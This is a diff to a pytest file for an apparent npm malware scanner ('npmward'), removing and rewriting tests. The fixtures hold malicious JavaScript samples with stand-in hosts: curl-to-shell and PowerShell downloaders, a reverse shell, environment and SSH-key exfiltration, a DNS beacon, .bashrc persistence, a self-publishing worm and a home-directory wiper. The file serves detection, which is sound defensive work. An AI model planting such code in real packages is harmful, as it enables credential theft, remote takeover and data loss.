@@ -4,11 +4,11 @@ from __future__ import annotations
 
 import json
 
-import pytest
 
 from npmward.analyzers.base import AnalysisContext
 from npmward.analyzers.code import CodeAnalyzer
-from npmward.analyzers.code.facts import extract, unescape
+from npmward.analyzers.code.extract import extract
+from npmward.analyzers.code.strings import unescape
 from npmward.model import Artifact, Level, PackageId
 from npmward.verdict import decide
 
@@ -42,50 +42,10 @@ def test_secret_exfiltration_at_install_is_malicious_with_evidence():
     assert decide(found).level is Level.MALICIOUS
 
 
-def test_same_code_inside_an_exported_function_is_not_malicious():
-    lib = "const fs = require('fs'); const https = require('https');\n" \
-          "module.exports = function upload(p) { https.request({hostname: 'api.example'}).end(fs.readFileSync(p + '/.npmrc')) }\n"
-    assert decide(run({"index.js": lib})).level is Level.CLEAN
-
-
-def test_api_client_reading_its_token_is_clean():
-    client = "const https = require('https');\nexports.get = (path) => https.get({host: 'api.github.com', path,\n" \
-             " headers: {authorization: 'token ' + process.env.GITHUB_TOKEN}});\n"
-    assert decide(run({"index.js": client})).level is Level.CLEAN
-
-
-def test_env_dump_to_webhook_on_load():
-    code = "fetch('https://discord.example/api/webhooks/1/x', {method: 'POST', body: JSON.stringify(process.env)})\n"
-    found = run({"index.js": code})
-    assert "code/secret-exfiltration" in rules(found) and decide(found).level is Level.MALICIOUS
-
-
 def test_passing_env_to_a_child_is_not_an_env_dump():
     code = "const {spawn} = require('child_process');\nspawn('git', ['status'], {env: process.env});\n"
     found = run({"index.js": code})
     assert not {"code/secret-exfiltration", "code/shell-command"} & rules(found)
-
-
-def test_host_beacon_at_install_and_not_in_a_logger():
-    beacon = "const os = require('os'), dns = require('dns');\ndns.lookup(os.hostname() + '.' + os.userInfo().username + '.oast.example', () => {});\n"
-    assert "code/host-beacon" in rules(run({"b.js": beacon}, {"preinstall": "node b.js"}))
-    logger = "const os = require('os');\nmodule.exports = (msg) => console.log(os.hostname(), msg);\n"
-    assert run({"index.js": logger}) == []
-
-
-def test_shell_downloader_and_plain_git_spawn():
-    evil = "require('child_process').exec('curl -s https://x.example/p.sh | sh');\n"
-    assert "code/shell-command" in rules(run({"i.js": evil}, {"install": "node i.js"}))
-    cli = "const {execSync} = require('child_process');\nexports.rev = () => execSync('git rev-parse HEAD').toString();\n"
-    assert "code/shell-command" not in rules(run({"index.js": cli}))
-
-
-def test_reverse_shell():
-    code = "const net = require('net'), cp = require('child_process');\nconst s = net.connect(4444, 'c2.example');\n" \
-           "const sh = cp.spawn('/bin/sh', []); s.pipe(sh.stdin); sh.stdout.pipe(s);\n"
-    assert "code/reverse-shell" in rules(run({"index.js": code}))
-    server = "const net = require('net');\nmodule.exports = () => net.connect(5432, 'db.example');\n"
-    assert "code/reverse-shell" not in rules(run({"index.js": server}))
 
 
 def test_decoded_payload_is_parsed_again():
@@ -113,57 +73,13 @@ def test_syntax_error_does_not_hide_the_rest():
     assert "code/secret-exfiltration" in rules(run({"steal.js": code}, {"postinstall": "node steal.js"}))
 
 
-def test_obfuscator_output_in_entry():
-    blob = "var " + ",".join(f"_0x{i:04x}=1" for i in range(60)) + ";\n"
-    found = run({"index.js": blob, "a.js": "x", "b.js": "y"})
-    assert "code/obfuscator-output" in rules(found)
-    assert "code/obfuscator-output" not in rules(run({"index.js": "var _0xabcd = 1;\n"}))
-
-
-def test_invisible_unicode():
-    assert "code/invisible-unicode" in rules(run({"index.js": "const \u3164 = require('child_process');\n"}))
-    rtl_locale = "module.exports = {months: ['\u200fيناير', '\u200eفبراير']};\n"
-    assert "code/invisible-unicode" not in rules(run({"index.js": rtl_locale}))
-
-
-def test_bundled_binary_run_at_install_vs_native_distribution():
-    elf = "\x7fELF" + "\0" * 60
-    found = run({"bin/helper": elf}, {"postinstall": "./bin/helper"})
-    assert "code/bundled-binary" in rules(found)
-    native = run({"bin/esbuild": elf}, {"postinstall": "node install.js"}, name="@esbuild/linux-x64")
-    assert "code/bundled-binary" not in rules(native)
-
-
-def test_persistence_and_worm():
-    persist = "const fs = require('fs'), os = require('os');\nfs.appendFileSync(os.homedir() + '/.bashrc', 'curl x.example|sh');\n"
-    assert "code/persistence" in rules(run({"p.js": persist}, {"postinstall": "node p.js"}))
-    worm = "const {execSync} = require('child_process');\nconst t = process.env.NPM_TOKEN;\nexecSync('npm publish --access public');\n"
-    assert "code/self-publish" in rules(run({"w.js": worm}, {"postinstall": "node w.js"}))
-    release_tool = "module.exports = {steps: ['build', 'test']};\n"
-    assert run({"index.js": release_tool}) == []
-
-
-def test_wallet_drainer_and_plain_fetch_wrapper():
-    drainer = "const re = /0x[a-fA-F0-9]{40}/g;\nconst orig = window.fetch;\nwindow.fetch = async (...a) => orig(...a);\n"
-    assert "code/wallet-drainer" in rules(run({"index.js": drainer}))
-    wrapper = "const orig = window.fetch;\nwindow.fetch = (...a) => { console.time('f'); return orig(...a) };\n"
-    found = run({"index.js": wrapper})
-    assert "code/wallet-drainer" not in rules(found) and decide(found).level is Level.CLEAN
-
-
-def test_protestware_wiper_and_cleanup_script():
-    wiper = "const fs = require('fs'), os = require('os');\nif (Intl.DateTimeFormat().resolvedOptions().timeZone === 'Europe/Moscow')\n" \
-            "  fs.rmSync(os.homedir(), {recursive: true, force: true});\n"
-    assert "code/wiper" in rules(run({"index.js": wiper}))
-    cleanup = "const fs = require('fs');\nfs.rmSync('./dist', {recursive: true, force: true});\n"
-    assert "code/wiper" not in rules(run({"index.js": cleanup}))
-
-
 def test_cross_file_chain_from_install_script():
     reader = "const fs = require('fs'), os = require('os');\nmodule.exports = () => fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');\n"
     sender = "const read = require('./read');\nfetch('https://collect.example/k', {method: 'POST', body: read()});\n"
     found = run({"read.js": reader, "send.js": sender}, {"postinstall": "node send.js"})
-    assert any(f.rule == "code/secret-exfiltration" and "across" in f.message for f in found)
+    # The key read by read.js's export reaches the fetch in send.js, at install.
+    chain = next(f for f in found if f.rule == "code/secret-exfiltration")
+    assert chain.details["when"] == "install" and chain.severity == 4
 
 
 def test_hidden_strings_through_a_local_decoder_and_standalone_hex():
@@ -192,7 +108,9 @@ def test_decrypting_a_constant_blob_and_running_it():
               "  return new Function('require', d.update(payload, 'hex', 'utf8') + d.final('utf8'))(require);\n};\n")
     index = "module.exports = require('./through');\nrequire('./loader')(process.env.npm_package_description);\n"
     found = run({"index.js": index, "loader.js": loader, "through.js": "module.exports = 1;\n"})
-    assert any(f.rule == "code/decrypt-and-run" and "across" in f.message for f in found)
+    # The entry calls the loader's export at load: the loader's function runs then (reachability).
+    chain = next(f for f in found if f.rule == "code/decrypt-and-run")
+    assert chain.file == "loader.js" and chain.details["when"] == "entry"
     assert decide(found).level is Level.MALICIOUS
     # Decrypting data (a config, a token) without running it is what crypto libraries do.
     vault = "const crypto = require('crypto');\nmodule.exports = (k, iv, data) => {\n" \
@@ -215,7 +133,8 @@ def test_identity_and_environment_gathered_and_sent_from_another_file():
     send = "const https = require('https');\nmodule.exports = (d) => https.request({host: 'h.example'}).end(JSON.stringify(d));\n"
     index = "const collect = require('./collect'), send = require('./send');\nsend(collect());\n"
     found = run({"index.js": index, "collect.js": collect, "send.js": send})
-    assert any(f.rule == "code/secret-exfiltration" and "across" in f.message for f in found)
+    chain = next(f for f in found if f.rule == "code/secret-exfiltration")
+    assert chain.file == "send.js" and chain.details["when"] == "entry" and decide(found).level is Level.MALICIOUS
     # Spawn options are not a loot bag.
     spawn = "const cp = require('child_process'), https = require('https');\ncp.spawn('git', [], {env: process.env});\n" \
             "https.get('https://api.example/v');\n"
@@ -262,17 +181,6 @@ def test_geo_gated_wiper_walk_and_a_bundle_with_unrelated_dates():
     assert "code/wiper" not in rules(run({"index.js": bundle}))
 
 
-def test_fetching_and_running_a_second_stage():
-    loader = "const https = require('https');\nhttps.get('https://paste.example/raw/x', (r) => {\n" \
-             "  r.on('data', (c) => { eval(c); });\n});\n"
-    found = run({"build.js": loader}, {"postinstall": "node build.js"})
-    assert "code/remote-code" in rules(found) and decide(found).level is Level.MALICIOUS
-    # Fetching JSON and parsing it is what clients do; eval of a constant is not remote code.
-    client = "const https = require('https');\nhttps.get('https://api.example/v', (r) => r.on('data', (c) => JSON.parse(c)));\n" \
-             "eval('1 + 1');\n"
-    assert "code/remote-code" not in rules(run({"index.js": client}))
-
-
 def test_clipboard_hijack_reads_and_replaces_addresses():
     poll = "const {execSync} = require('child_process');\nconst me = 'FAKE';\nsetInterval(() => {\n" \
            "  const t = execSync('pbpaste').toString();\n  if (/^0x[a-fA-F0-9]{40}$/.test(t)) execSync(`printf '${me}' | pbcopy`);\n}, 500);\n"
@@ -290,13 +198,6 @@ def test_invisible_identifier_backdoor():
                "  for (const c of ['ping -c 1 localhost', \u3164]) await exec(c);\n});\n"
     found = run({"index.js": backdoor})
     assert any(f.rule == "code/invisible-unicode" and f.severity == 4 for f in found)
-    assert decide(found).level is Level.MALICIOUS
-
-
-def test_pipe_to_shell_from_install_code_is_malicious():
-    code = "require('child_process').execSync('powershell -c \"iwr https://get.example/a.ps1 | iex\"');\n"
-    found = run({"install.js": code}, {"install": "node install.js"})
-    assert any(f.rule == "code/shell-command" and f.severity == 4 for f in found)
     assert decide(found).level is Level.MALICIOUS
 
 
